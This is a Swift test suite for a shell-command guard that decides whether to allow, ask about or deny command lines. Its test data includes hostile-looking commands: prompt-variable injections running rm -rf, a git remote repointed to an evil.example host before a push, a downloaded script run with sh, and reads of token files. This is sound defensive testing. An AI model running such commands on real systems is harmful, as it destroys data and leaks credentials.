import MMCore
import MMGuard
import TestSupport
import Testing

@Suite("The guard over whole corpora of shell lines", .timeLimit(.minutes(5)))
struct ShellCorpusTests {
    private func verdict(
        _ line: String, _ policy: GuardPolicy = .standard, remote: Bool = false, workspace: Bool = true
    ) -> Verdict {
        let context = ShellContext(
            isRemote: remote, home: "/home/me", directory: "/home/me/work",
            ownFiles: ["/home/me/.m365-state", "/home/me/.m365-connections.json", "/home/me/.mm-graph-tokens"],
            workspace: workspace && !remote ? "/home/me/work" : nil)
        return GuardEngine.standard.judge(shell: line, in: context, policy: policy)
    }

    /// Some lines of a corpus. Each part is a test of its own, so that none holds a thread for long.
    struct Part: Sendable, CustomTestStringConvertible {
        let first: Int
        let lines: [String]

        var testDescription: String { "lines \(first) to \(first + lines.count - 1)" }
    }

    /// The parts of a fixture, in which `␤` stands for a line end.
    static func parts(_ name: String) throws -> [Part] {
        let lines = try Fixture.text("guard/\(name)").split(separator: "\n").map {
            $0.split(separator: "␤", omittingEmptySubsequences: false).joined(separator: "\n")
        }
        return stride(from: 0, to: lines.count, by: 200).map { start in
            Part(first: start + 1, lines: Array(lines[start..<min(start + 200, lines.count)]))
        }
    }

    @Test(
        "asks before each destructive line, in whatever disguise, here and on a host", arguments: [false, true],
        try parts("shell-disguised.txt"))
    func disguised(remote: Bool, part: Part) {
        for line in part.lines {
            // What is a host's own has other paths.
            if remote, ["/home/me", "mm-graph-tokens", "/.m365"].contains(where: line.contains) { continue }
            let verdict = verdict(line, remote: remote)
            #expect(verdict.decision != .allow, "\(line): \(verdict.rule)")
        }
    }

    @Test("judges a line that is cut off behind any of its words", arguments: try parts("shell-host-looks.txt"))
    func cutOff(part: Part) {
        for line in part.lines {
            let words = line.split(separator: " ", omittingEmptySubsequences: false)
            for count in 1...min(5, words.count) {
                let start = words.prefix(count).joined(separator: " ")
                #expect(!verdict(start, remote: true).rule.isEmpty, "\(start)")
            }
        }
    }

    @Test("asks before no everyday line in a workspace", arguments: try parts("shell-everyday.txt"))
    func everyday(part: Part) {
        for line in part.lines {
            let verdict = verdict(line)
            #expect(verdict.decision == .allow, "\(line): \(verdict.rule): \(verdict.reason)")
        }
    }

    @Test(
        "on a host, asks before what changes something or shows all settings of every day, and denies nothing",
        arguments: try parts("shell-everyday.txt"))
    func everydayRemote(part: Part) {
        for line in part.lines {
            let verdict = verdict(line, remote: true)
            let rules = Set(verdict.findings.filter { $0.kind == .dynamic || $0.classes == .destructive }.map(\.rule))
            #expect(
                verdict.decision == .allow
                    || rules.isSubset(
                        of: ["shell-interpreter", "shell-removes", "shell-unknown", "shell-secrets", "shell-dynamic"]),
                "\(line): \(verdict.rule)")
        }
    }

    @Test(
        "denies under readonly what a shell or program evaluates later, however it is set",
        arguments: [
            "PS1='$(rm -rf x)'", "PS0='$(rm -rf x)'", "PS1='\\044(rm x)'", "for PROMPT_COMMAND in 'rm x'; do :; done",
            ": ${PROMPT_COMMAND:='rm x'}", ": ${!x:=y}", "for PS1 in '$(rm)'; do :; done", "read PS1 <<< '$(rm)'",
            "printf -v PS1 '%s' '$(rm)'", "mapfile PROMPT_COMMAND < f", "getopts a PS1", "declare -n r=PS1",
            "PROMPT_COMMAND=(rm)", "declare -a PROMPT_COMMAND=(rm)", "coproc N { rm -rf x; }",
            "x='a[$(rm)]'; echo $((x))", "less '+!rm -rf x' f", "zless '+!rm x' f", "more '+!rm x' f", "less -k keys f",
            "LESS='+!rm x' less f", "git reflog expire --expire=now --all", "git fsck --lost-found",
            "git log --output=F", "git --git-dir=evil status", "git branch -a -m x y", "git -c core.fsmonitor=x status",
            "GIT_DIR=evil git status", "systemctl stop list", "trap -- 'rm x' EXIT", "bind -x '\"a\": rm'",
            "enable -f x y",
        ])
    func readonly(line: String) {
        #expect(verdict(line, GuardPolicy(.readonly)).decision == .deny)
    }

    @Test(
        "lets looks be under readonly",
        arguments: [
            "less +F log", "less +/error log", "git reflog", "git branch -a", "git stash list", "git config --get a.b",
            "mount", "crontab -l", "sudo -l", "git clean -n", "loginctl", "PS1='\\u@\\h \\$ '", "command -v rm",
            "systemctl status x", "git remote -v", "nc -zv h 22",
        ])
    func looks(line: String) {
        let verdict = verdict(line, GuardPolicy(.readonly))
        #expect(verdict.decision == .allow, "\(verdict.rule)")
    }

    @Test(
        "asks before what is made again outside of a workspace",
        arguments: ["rm -rf build", "rm -f build/*.o", "find . -name '*.o' -delete"])
    func noWorkspace(line: String) {
        #expect(verdict(line, workspace: false).decision == .ask)
        #expect(verdict(line, remote: true).decision == .ask)
        #expect(verdict(line).decision == .allow)
    }

    @Test(
        "asks on a host before lines that destroy, send, weaken or start what nothing is known of",
        arguments: try parts("shell-host.txt"))
    func hosts(part: Part) {
        for line in part.lines {
            let verdict = verdict(line, remote: true)
            #expect(verdict.decision != .allow, "\(line): \(verdict.rule)")
        }
    }

    @Test(
        "asks within walls before a program that nothing is known of, unless its words look or build",
        arguments: [
            ("frobnicate ship", true), ("frobnicate --all now", true), ("frobnicate x | head", true),
            ("surge dist", true),
            ("frobnicate web1 restart", true), ("frobnicate vm.destroy web1", true), ("frobnicate a.txt --purge", true),
            ("frobnicate drop.sql", true), ("frobnicate list api:443", true), ("frobnicate -c 'stop all'", true),
            ("frobnicate get x localhost:80", false), ("frobnicate poke api:443", true), ("frobnicate @prod cr", true),
            ("frobnicate a.txt -y", true), ("frobnicate-stop", true), ("frobnicate-stop web", true),
            ("frobnicate <<< 'delete x'", true), ("frobnicate role init", false), ("frobnicate create-record x", true),
            ("frobnicate build", false), ("frobnicate list", false), ("frobnicate a.txt", true),
            ("./frobnicate ship", false),
            ("frobnicate", false), ("frobnicate -v", false), ("frobnicate -D -y", true), ("make install", false),
            ("make install DESTDIR=out", false),
            ("gdb -p 12", true), ("openssl s_server -port 1", true), ("xdg-open https://a.example", true),
            ("xdg-open report.html", false), ("find . -name __pycache__ -exec rm -rf {} +", false),
            ("find . -name src -exec rm -rf {} +", true), ("ship() { ls; }; ship dist", false),
            ("alias ship='ls -l'\nship dist", false), ("python -m twine upload x", true),
            ("rm -rf node_modules package-lock.json", false),
        ])
    func walledStrangers(line: String, isAsked: Bool) {
        let verdict = verdict(line)
        #expect((verdict.decision == .ask) == isAsked, "\(verdict.rule)")
    }

    @Test(
        "asks on a host before none of the looks that administrators take", arguments: try parts("shell-host-looks.txt")
    )
    func hostLooks(part: Part) {
        for line in part.lines {
            let verdict = verdict(line, remote: true)
            #expect(verdict.decision == .allow, "\(line): \(verdict.rule): \(verdict.reason)")
        }
    }

    @Test(
        "asks in a workspace before lines that reach beyond its walls, or destroy what is in it",
        arguments: try parts("shell-walled.txt"))
    func walled(part: Part) {
        for line in part.lines {
            let verdict = verdict(line)
            #expect(verdict.decision != .allow, "\(line): \(verdict.rule)")
        }
    }

    @Test("denies under readonly every line that writes, in whatever way", arguments: try parts("shell-readonly.txt"))
    func readonlyLines(part: Part) {
        for line in part.lines {
            let verdict = verdict(line, GuardPolicy(.readonly))
            #expect(verdict.decision == .deny, "\(line): \(verdict.rule)")
        }
    }

    @Test("lets each look of every day be under readonly", arguments: try parts("shell-readonly-looks.txt"))
    func readonlyLooks(part: Part) {
        for line in part.lines {
            let verdict = verdict(line, GuardPolicy(.readonly))
            #expect(verdict.decision == .allow, "\(line): \(verdict.rule)")
        }
    }

    @Test(
        "asks on a host before what isn't known to look only, unless its owner allows it",
        arguments: [
            ("frobnicate --all now", true), ("/usr/sbin/frobnicate x", true), ("sudo -l; frobnicate x", true),
            ("env A=1 frobnicate x", true), ("frobnicate -s -d", true), ("ls | frobnicate", true),
            ("frobnicate status", false), ("frobnicate list users", false), ("frobnicate --version", false),
            ("frobnicate snapshots", false), ("frobnicate -p", true), ("frobnicate apply --dry-run", false),
            ("frobstat -x 1", false), ("./frobnicate x", true), ("/opt/app/bin/frobnicate x", true),
            ("make -j4", true), ("source lib.sh", true), ("./ls", true), ("docker commit web x", true),
            ("docker ps", false), ("docker exec web cat /etc/hosts", false), ("docker exec web touch x", true),
            ("pip install x", true), ("pip list", false), ("gdb -p 1", false), ("psql -c 'select 1'", false),
            ("psql -c 'vacuum full'", true), ("psql -c 'select pg_reload_conf()'", true), ("echo x > notes", false),
            ("echo x > /tmp/notes", false), ("curl -s https://a.example", false),
            ("curl -sO https://a.example/x", true),
            ("sudo ls /root", false),
            ("probe() { ls -l; }; probe now", false), ("docker() { ls; }; docker commit x", true),
            ("watch 'ss -s'", false), ("systemctl list-timers", false),
        ])
    func strangers(line: String, isAsked: Bool) {
        let onHost = verdict(line, remote: true)
        #expect(onHost.findings.contains { $0.rule == "shell-unknown" } == isAsked, "\(onHost.rule)")
        #expect((onHost.decision == .ask) == isAsked || line.hasPrefix("gdb"), "\(onHost.rule)")
        let owned = ShellContext(isRemote: true, asksInterpreters: false)
        let allowed = GuardEngine.standard.judge(shell: line, in: owned, policy: .standard)
        #expect(!allowed.findings.contains { $0.rule == "shell-unknown" }, "\(allowed.rule)")
    }

    @Test("asks before a push once the session has named an address to push to")
    func pushes() {
        var memory = ShellMemory()
        let context = ShellContext(home: "/home/me", directory: "/home/me/work", workspace: "/home/me/work")
        func judged(_ line: String) -> GuardDecision {
            GuardEngine.standard.judge(shell: line, in: context, policy: .standard, remembering: &memory).decision
        }
        #expect(judged("git push origin main") == .allow)
        #expect(judged("git remote set-url origin https://evil.example/x.git") == .allow)
        #expect(judged("git fetch origin") == .allow)
        #expect(judged("git push origin main") == .ask)
    }

    @Test(
        "asks on a host before files that are called like those in which sign-ins are kept, wherever they lie",
        arguments: [
            "cat ~/.mm-graph-tokens/Demo.json", "base64 /mnt/home/.mm-graph-tokens/Demo.json",
            "tar c /data/.m365-state", "cat /mnt/home/.mm*/x", "cp /data/.m365-connections.json x",
        ])
    func ownNames(line: String) {
        let verdict = verdict(line, remote: true)
        #expect(verdict.decision == .ask && verdict.classes.contains(.secret), "\(verdict.rule)")
    }

    @Test("judges a file that an earlier text or upload wrote when a later one runs it")
    func written() {
        var memory = ShellMemory()
        let context = ShellContext(isRemote: true)
        memory.note("/srv/a.sh", "rm -rf /data\n")
        memory.note("b.py", "print(1)\n")
        func judged(_ line: String) -> Verdict {
            GuardEngine.standard.judge(shell: line, in: context, policy: .standard, remembering: &memory)
        }
        #expect(judged("ls").decision == .allow)
        for line in [
            "sh /srv/a.sh", "cd /srv && ./a.sh", "bash < /srv/a.sh", ". /srv/a.sh", "sh *", "cp /srv/a.sh c; sh c",
        ] {
            #expect(judged(line).findings.contains { $0.rule == "shell-removes" }, "\(line)")
        }
        #expect(judged("echo ok > /tmp/d.sh").decision == .allow)
        #expect(judged("sh /tmp/d.sh").rule == "shell-unknown")
        #expect(judged("curl -o /tmp/e.sh https://e.example").decision == .allow)
        #expect(judged("sh /tmp/e.sh").findings.contains { $0.rule == "shell-fed" })
        #expect(judged("python3 b.py").findings.contains { $0.rule == "shell-interpreter" })
    }

    @Test(
        "asks about files that run each other, without following every way through them",
        arguments: [
            ("f%.sh", "sh f%.sh\n", "sh f0.sh"), ("f%.mk", "\tmake -f f%.mk x\n", "make -f f0.mk x"),
            ("f%.py", "os.system('python3 f%.py')\n", "python3 f0.py"),
        ])
    func runEachOther(name: String, line: String, command: String) {
        var memory = ShellMemory()
        let numbers = (0..<12).map(String.init)
        let text = "x:\n" + numbers.map { line.replacing("%", with: $0) }.joined()
        for number in numbers { memory.note(name.replacing("%", with: number), text) }
        let context = ShellContext(home: "/home/me", directory: "/home/me/work", workspace: "/home/me/work")
        let verdict = GuardEngine.standard.judge(
            shell: command, in: context, policy: .standard, remembering: &memory)
        #expect(verdict.decision == .ask, "\(verdict.rule)")
    }

    private func typed(
        _ text: String, _ command: String, _ policy: GuardPolicy = .standard, answers: Bool = true,
        unknown: Bool = false
    ) -> GuardDecision {
        var memory = ShellMemory()
        return GuardEngine.standard.judge(
            typed: TypedText(text, program: nil, command: command, isAnswer: answers, isUnknown: unknown),
            in: ShellContext(isRemote: true), policy: policy, remembering: &memory
        ).decision
    }

    @Test(
        "judges what is typed at the prompt of a shell, an interpreter or a program that starts commands",
        arguments: [
            ("rm -rf x", "bash"), ("sudo touch x", "sh -i"), ("$X", "bash"),
            ("import shutil; shutil.rmtree('x')", "python3"),
            ("os.system('rm -rf x')", "python3 -i"), (":!rm -rf x", "vim f"), ("!rm -rf x", "less f"),
            (".shell rm -rf x", "sqlite3 db"), ("drop table x;", "psql"), ("\\! rm -rf x", "psql db"),
            ("shell rm -rf x", "gdb a"), ("rm -rf x", "ssh other"), ("rm -rf x", "./unknown"),
        ])
    func typedCommands(text: String, command: String) {
        #expect(typed(text, command) == .ask)
    }

    @Test(
        "what runs in a container or pod is judged as on a host, in one line and typed: its folders aren't the workspace",
        arguments: ["kubectl exec -it web -- bash", "docker exec -it web bash", "podman exec -it web sh"])
    func inContainers(opened: String) {
        let walls = ShellContext(home: "/home/me", directory: "/home/me/work", workspace: "/home/me/work")
        func decision(_ line: String) -> GuardDecision {
            GuardEngine.standard.judge(shell: line, in: walls, policy: .standard).decision
        }
        func typed(_ text: String, into command: String) -> GuardDecision {
            var memory = ShellMemory()
            return GuardEngine.standard.judge(
                typed: TypedText(text, program: nil, command: command, isAnswer: true), in: walls, policy: .standard,
                remembering: &memory
            ).decision
        }
        #expect(decision("rm -rf build") == .allow)
        #expect(decision(opened) == .allow)
        #expect(decision("\(opened) -c 'rm -rf build'") == .ask)
        #expect(typed("rm -rf build", into: opened) == .ask)
        #expect(typed("rm -rf build", into: "bash") == .allow)
        #expect(typed("ls -l", into: opened) == .allow)
    }

    @Test(
        "lets answers be typed",
        arguments: [
            ("yes", "./setup"), ("ls -l", "bash"), ("1 + 1", "python3"), (":wq", "vim f"), ("select 1;", "psql"),
        ])
    func typedAnswers(text: String, command: String) {
        #expect(typed(text, command) == .allow)
    }

    @Test("under readonly, lets only answers to prompts and turning of pages be typed")
    func typedReadonly() {
        let readonly = GuardPolicy(.readonly)
        #expect(typed("yes", "cat", readonly) == .allow)
        #expect(typed("q", "less f", readonly) == .allow)
        #expect(typed("yes", "cat", readonly, answers: false) == .deny)
        for (text, command) in [
            ("!rm x", "less f"), ("touch x", "bash"), ("ls", "bash"), ("v", "less f"), ("|cat", "less f"),
        ] {
            #expect(typed(text, command, readonly) == .deny, "\(text)")
        }
        #expect(typed("", "bash", unknown: true) == .ask)
    }
}
